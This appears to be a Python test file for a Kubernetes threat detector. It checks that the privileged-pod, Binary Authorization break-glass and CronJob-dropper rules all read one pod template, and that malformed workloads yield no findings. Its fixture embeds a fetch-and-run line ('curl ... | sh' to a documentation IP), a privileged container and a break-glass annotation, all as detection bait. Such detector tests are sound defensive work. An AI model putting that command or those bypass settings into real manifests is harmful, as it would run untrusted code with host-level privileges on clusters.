"""The pod template of a pod, a workload or a CronJob, found one way for every rule that
reads it (``k8s.pod_template``): privileges (``k8s.privileged_pod``), Binary
Authorization's break-glass and the CronJob dropper. Each rule used to dig the template
out its own way, so on a malformed CronJob or Deployment some rules judged a template the
others did not see."""

from __future__ import annotations

from typing import Any

import pytest

from detector.techniques.k8s import pod_template
from tests.detector.test_techniques_k8s import findings, request

PERSON = "alice@example.com"
# A template that every template rule finds something in.
TEMPLATE: dict[str, Any] = {
    "metadata": {"annotations": {"alpha.image-policy.k8s.io/break-glass": "true"}},
    "spec": {"containers": [{"name": "c", "image": "alpine",
                             "securityContext": {"privileged": True},
                             "command": ["/bin/sh", "-c"],
                             "args": ["curl -fsSL http://203.0.113.9/x.sh | sh"]}]},
}


def created(resource: str, spec: Any) -> dict:
    body: dict[str, Any] = {"metadata": {"name": "w"}}
    if spec is not None:
        body["spec"] = spec
    return request("create", resource, name="w", user=PERSON, body=body)


def test_well_formed__every_rule_reads_the_one_template() -> None:
    cronjob = created("cronjobs", {"schedule": "* * * * *",
                                   "jobTemplate": {"spec": {"template": TEMPLATE}}})
    deployment = created("deployments", {"template": TEMPLATE})
    pod = request("create", "pods", name="w", user=PERSON, body=dict(TEMPLATE))
    assert findings(cronjob, deployment, pod) == [
        ("k8s.privileged_pod", "medium", "privileged container c"),
        ("k8s.binary_authorization_bypass", "medium", "default/w"),
        ("k8s.cronjob_dropper", "high", "default/w"),
        ("k8s.privileged_pod", "medium", "privileged container c"),
        ("k8s.binary_authorization_bypass", "medium", "default/w"),
        ("k8s.privileged_pod", "high", "privileged container c"),
        ("k8s.binary_authorization_bypass", "medium", "default/w")]


@pytest.mark.parametrize(("action", "obj"), [
    ("k8s:pods.create", TEMPLATE),
    ("k8s:deployments.create", {"spec": {"template": TEMPLATE}}),
    ("k8s:jobs.create", {"spec": {"template": TEMPLATE}}),
    ("k8s:cronjobs.patch", {"spec": {"jobTemplate": {"spec": {"template": TEMPLATE}}}}),
])
def test_pod_template__where_each_kind_keeps_it(action: str, obj: dict) -> None:
    assert pod_template(obj, action) == TEMPLATE


MALFORMED = {
    # a CronJob written as a Deployment: the privileges and break-glass rules judged this
    # template, the dropper rule did not
    "cronjob-template-without-jobtemplate": ("cronjobs", {"template": TEMPLATE}),
    "cronjob-jobtemplate-a-list": ("cronjobs", {"jobTemplate": [TEMPLATE],
                                                "template": TEMPLATE}),
    "cronjob-jobtemplate-without-template": ("cronjobs", {"jobTemplate": {"spec": {}}}),
    "cronjob-template-under-jobtemplate": ("cronjobs", {"jobTemplate": {"template": TEMPLATE}}),
    "cronjob-jobtemplate-spec-a-list": ("cronjobs", {"jobTemplate": {"spec": [TEMPLATE]}}),
    "cronjob-missing-spec": ("cronjobs", None),
    "cronjob-spec-a-list": ("cronjobs", [{"jobTemplate": {"spec": {"template": TEMPLATE}}}]),
    # a Deployment's stray jobTemplate was taken for its pod template
    "deployment-with-a-jobtemplate": ("deployments",
                                      {"jobTemplate": {"spec": {"template": TEMPLATE}}}),
    "deployment-missing-spec": ("deployments", None),
    "deployment-spec-a-list": ("deployments", [{"template": TEMPLATE}]),
    "deployment-template-a-list": ("deployments", {"template": [TEMPLATE]}),
    "deployment-template-spec-a-list": ("deployments",
                                        {"template": {"spec": [TEMPLATE["spec"]],
                                                      "metadata": [TEMPLATE["metadata"]]}}),
}


@pytest.mark.parametrize("shape", sorted(MALFORMED))
def test_malformed_workload__no_template_for_any_rule(shape: str) -> None:
    resource, spec = MALFORMED[shape]
    assert findings(created(resource, spec)) == []
